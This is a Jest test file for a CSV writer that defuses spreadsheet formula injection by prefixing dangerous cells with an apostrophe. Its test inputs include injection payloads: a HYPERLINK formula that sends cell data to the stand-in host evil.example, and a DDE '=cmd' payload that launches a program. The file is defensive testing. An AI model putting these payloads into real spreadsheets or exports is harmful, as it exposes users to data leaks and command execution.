import { describe, expect, it } from '@jest/globals';
import { parseCsv } from '../migration/csv.js';
import { csvCell, csvDocument, csvLine, neutraliseCell, readNeutralisedCell } from './csv.writer.js';

describe('csv.writer: no cell becomes a formula (issue 13 item 7)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
    ['=cmd|\' /C calc\'!A0', `'=cmd|' /C calc'!A0`],
    ['@SUM(1)', `'@SUM(1)`],
    ['+1+cmd', `'+1+cmd`],
    ['-2+3', `'-2+3`],
    ['\tfoo', `'\tfoo`],
    ['\rfoo', `"'\rfoo"`],
  ])('text %j is written as text: %s', (text, written) => {
    expect(csvCell(text)).toBe(written);
  });

  it.each(['-3.5', '+2', '-1.2e3', '0', '12.', '.5'])('numeric text %s stays a number', (text) => {
    expect(csvCell(text)).toBe(text);
  });

  it('numbers stay numbers; null and undefined are empty; non-finite numbers are empty', () => {
    expect(csvLine([-3.5, 0, 1e21, null, undefined, Number.NaN, true])).toBe('-3.5,0,1e+21,,,,true');
  });

  it('leaves ordinary text alone and quotes as RFC 4180 wants', () => {
    expect(csvLine(['云岩区', 'a,b', 'say "hi"', ' padded', 'two\nlines', "it's"])).toBe('云岩区,"a,b","say ""hi"""," padded","two\nlines",it\'s');
  });

  it('is reversible: readNeutralisedCell gives back exactly what was written, apostrophes included', () => {
    for (const text of ['=foo', "'=foo", "''=foo", "'plain", 'plain', '-3.5', '-x', "'-3.5", '@', "'", '\tx', '']) {
      expect(readNeutralisedCell(neutraliseCell(text))).toBe(text);
    }
  });

  it('a document: BOM, CRLF, a final CRLF, pre-written lines kept; parses back to the neutralised cells', () => {
    const doc = csvDocument([['名称', '备注'], ['=1+1', '-3.5'], '', [5]]);
    expect(doc).toBe("\uFEFF名称,备注\r\n'=1+1,-3.5\r\n\r\n5\r\n");
    expect(parseCsv(doc).records.map((r) => r.fields)).toEqual([['名称', '备注'], ["'=1+1", '-3.5'], [''], ['5']]);
  });
});
